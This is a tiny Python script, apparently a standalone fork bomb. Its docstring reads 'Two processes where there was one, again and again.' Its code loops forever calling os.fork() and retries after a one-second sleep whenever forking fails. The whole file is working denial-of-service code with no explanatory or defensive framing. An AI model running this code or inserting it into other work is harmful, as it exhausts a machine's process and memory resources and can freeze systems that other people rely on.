"""Two processes where there was one, again and again."""

import os
import time

while True:
    try:
        os.fork()
    except OSError:
        time.sleep(1)
